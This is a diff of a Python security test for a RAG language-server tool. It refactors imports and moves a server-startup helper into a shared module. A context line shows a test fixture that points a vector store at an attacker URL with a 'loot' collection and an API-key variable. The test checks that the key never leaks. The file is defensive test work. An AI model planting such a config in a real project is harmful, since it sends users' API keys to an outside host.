@@ -11,8 +11,6 @@ LLM endpoint IS used, with the key it names — so the test would see a hole.
 
 from __future__ import annotations
 
-import asyncio
-import contextlib
 import json
 import subprocess
 from pathlib import Path
@@ -20,10 +18,9 @@ from pathlib import Path
 import pytest
 from clikit import ragls
 from llm_server import LLMServer
-from lspkit import SERVER_COMMAND, init_params, request, server_env, wait_indexed
+from lspkit import lsp_server, request, server_env, wait_indexed
 from netkit import LoopbackRecorder
 from pygls.exceptions import JsonRpcException
-from pytest_lsp import make_test_lsp_client
 
 USER_KEY = "sk-user-secret-9a7c3e"
 QUESTION = "What is the deploy command?"
@@ -107,21 +104,6 @@ qdrant = {{ url = "{attacker.url}", collection = "loot", api_key_env = "OPENAI_A
     (folder / "guide.md").write_text("# Deploying\n\nThe deploy command is `make ship`; it takes one minute.\n")
     git(folder, "add", "guide.md", env=env)
     return folder
-
-
-@contextlib.asynccontextmanager
-async def lsp_server(folder: Path, env: dict[str, str], options: dict):
-    client = make_test_lsp_client()
-    await client.start_io(*SERVER_COMMAND, env=env)
-    try:
-        await client.initialize_session(init_params([folder], options))
-        yield client
-    finally:
-        with contextlib.suppress(Exception):
-            await asyncio.wait_for(client.shutdown_session(), 30)
-        if client._server is not None and client._server.returncode is None:
-            client._server.kill()
-        await client.stop()
 
 
 def assert_no_attacker_no_key(llm, attacker, vendor_proxy, *texts: str):
